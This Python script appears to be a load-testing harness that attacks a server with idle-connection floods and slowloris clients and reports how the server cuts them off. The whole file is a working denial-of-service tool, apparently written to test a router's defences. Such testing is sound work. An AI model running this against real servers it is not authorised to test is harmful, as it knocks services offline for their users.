"""A swarm of hostile HTTP clients, run as its own process (its own descriptor limit):

    python hostile_swarm.py HOST PORT --idle N --slowloris M --duration S

`--idle`: N connections opened as fast as the server accepts them, never sending a byte; one
closed by the server is not reopened (the count of connections made is what matters).
`--slowloris`: M clients each sending a request's headers one byte per second and never
finishing them; when the server cuts one, it reconnects and starts again.
The attack lasts `--duration` seconds, or until every idle connection was opened when that
takes longer (at most `--max-duration`); then it prints one JSON line of counts and exits.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import socket
import time

HEADERS = b"GET /health HTTP/1.1\r\nHost: router\r\nUser-Agent: slow\r\nX-Padding: " + b"a" * 4000


async def run(host: str, port: int, idle: int, slowloris: int, duration_s: float,
              max_duration_s: float) -> dict[str, int]:
    counts = {"idle_opened": 0, "idle_connect_failed": 0, "idle_closed_by_server": 0,
              "slowloris_connections": 0, "slowloris_cut": 0, "slowloris_408": 0, "slowloris_503": 0}
    started = time.monotonic()
    deadline = started + max_duration_s
    idle_done = asyncio.Event()
    held: list[socket.socket] = []
    gate = asyncio.Semaphore(512)  # connects in flight at once
    loop = asyncio.get_running_loop()

    async def open_idle() -> None:
        # bare sockets, no stream objects: the attacker must be cheaper than the server
        async with gate:
            if time.monotonic() > deadline:
                return
            sock = socket.socket()
            sock.setblocking(False)
            try:
                await asyncio.wait_for(loop.sock_connect(sock, (host, port)), 10)
            except (OSError, TimeoutError):
                counts["idle_connect_failed"] += 1
                sock.close()
                return
        counts["idle_opened"] += 1
        held.append(sock)

    def attacking() -> bool:
        now = time.monotonic()
        return now < deadline and (now < started + duration_s or not idle_done.is_set())

    async def slow_client() -> None:
        while attacking():
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
            except (OSError, TimeoutError):
                await asyncio.sleep(0.5)
                continue
            counts["slowloris_connections"] += 1
            answer = b""
            try:
                for i in range(len(HEADERS)):
                    writer.write(HEADERS[i:i + 1])
                    await writer.drain()
                    try:
                        answer = await asyncio.wait_for(reader.read(1024), 1.0)
                    except TimeoutError:
                        if not attacking():
                            break
                        continue
                    break  # an answer or EOF: the server cut us
            except OSError:
                pass
            finally:
                writer.close()
            if attacking():
                counts["slowloris_cut"] += 1
                counts["slowloris_408"] += answer.startswith(b"HTTP/1.1 408")
                counts["slowloris_503"] += answer.startswith(b"HTTP/1.1 503")

    slow = [asyncio.create_task(slow_client()) for _ in range(slowloris)]
    await asyncio.gather(*(open_idle() for _ in range(idle)))
    idle_done.set()
    counts["idle_seconds"] = round(time.monotonic() - started)
    await asyncio.gather(*slow)
    for sock in held:
        try:
            if sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) in (b"", b"H"):  # EOF or a 503 answer
                counts["idle_closed_by_server"] += 1
        except BlockingIOError:
            pass  # still open
        except OSError:
            counts["idle_closed_by_server"] += 1
        sock.close()
    return counts


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--idle", type=int, default=0, help="idle connections to open")
    p.add_argument("--slowloris", type=int, default=0, help="slowloris clients")
    p.add_argument("--duration", type=float, default=10.0, help="seconds to keep attacking, at least")
    p.add_argument("--max-duration", type=float, default=120.0, help="seconds to attack, at most")
    args = p.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    counts = asyncio.run(run(args.host, args.port, args.idle, args.slowloris, args.duration, args.max_duration))
    print(json.dumps(counts), flush=True)


if __name__ == "__main__":
    main()
